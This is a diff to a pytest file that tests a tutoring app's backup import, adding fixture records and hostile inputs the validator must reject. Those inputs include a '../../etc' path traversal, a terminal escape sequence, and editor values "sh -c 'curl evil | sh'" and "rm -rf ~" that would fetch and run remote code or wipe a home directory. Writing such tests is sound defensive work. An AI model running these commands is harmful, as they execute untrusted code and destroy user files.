@@ -21,7 +21,13 @@ GOOD = {"format": "tutor-backup", "version": 1, "settings": {"scheduler": "ladde
         "reviews": [REVIEW, {**REVIEW, "uid": "x:2", "item_id": "trace-2x2"}],
         "attempts": [{"uid": "x:3", "item_id": "det-2x2", "kind": "card", "at": "2026-01-05T10:00:00+00:00",
                       "status": "pass", "result": {"status": "pass"}}],
-        "drafts": [{"item_id": "det-2x2", "kind": "card", "text": "x", "updated_at": "2026-01-05T10:00:00+00:00"}]}
+        "drafts": [{"item_id": "det-2x2", "kind": "card", "text": "x", "updated_at": "2026-01-05T10:00:00+00:00"}],
+        "mistakes": [{"item_id": "det-2x2", "mistake": "swapped-diagonals", "attempt": "x:3",
+                      "at": "2026-01-05T10:00:00+00:00"}],
+        "item_days": [{"item_id": "det-2x2", "day": "2026-01-05", "failed_checks": 1, "hints": 0, "gave_up": False,
+                       "started_at": "2026-01-05T09:58:00+00:00", "clock_started_at": None}],
+        "lesson_reads": [{"deck": "linalg", "section": "determinants", "first_read_at": "2026-01-05T09:00:00+00:00",
+                          "day": "2026-01-05"}]}
 
 
 def _with(path: str, value):
@@ -64,6 +70,12 @@ HOSTILE = {
     "setting out of range": ("settings.new_per_day", 10 ** 30, "new_per_day"),
     "setting of the wrong type": ("settings.scheduler", ["fsrs"], "scheduler"),
     "settings as a list": ("settings", ["editor"], "must be a mapping"),
+    "mistake pinned on a local attempt": ("mistakes.0.attempt", "1f2e:1", "not an attempt of this backup"),
+    "mistake pinned on attempt 0": ("mistakes.0.attempt", 0, "must be non-empty text"),
+    "hints of 10^30": ("item_days.0.hints", 10 ** 30, "whole number from 0"),
+    "negative failed checks": ("item_days.0.failed_checks", -3, "whole number from 0"),
+    "lesson deck with a path": ("lesson_reads.0.deck", "../../etc", "must be an id"),
+    "lesson section with an escape": ("lesson_reads.0.section", "x\x1b[2J", "control characters"),
 }
 
 
@@ -74,7 +86,8 @@ def _nothing_written(home):
         try:
             assert con.execute("SELECT count(*) FROM reviews").fetchone() == (0,)
             assert con.execute("SELECT count(*) FROM attempts").fetchone() == (0,)
-            assert con.execute("SELECT count(*) FROM item_state").fetchone() == (0,)
+            for table in ("item_state", "mistakes", "item_days", "lesson_reads"):
+                assert con.execute(f"SELECT count(*) FROM {table}").fetchone() == (0,)
         finally:
             con.close()
 
@@ -99,7 +112,9 @@ def test_the_good_backup_restores(cli, home, tmp_path):
     path.write_text(json.dumps(GOOD))
     result = cli("import", str(path), "--content", str(LINALG), "--json")
     assert result.code == 0, result.err
-    assert result.json()["reviews_added"] == 2 and result.json()["settings_restored"]
+    counts = result.json()
+    assert counts["reviews_added"] == 2 and counts["settings_restored"]
+    assert (counts["mistakes_added"], counts["item_days_merged"], counts["lesson_reads_merged"]) == (1, 1, 1)
 
 
 @pytest.mark.parametrize("editor", ["sh -c 'curl evil | sh'", "rm -rf ~"])
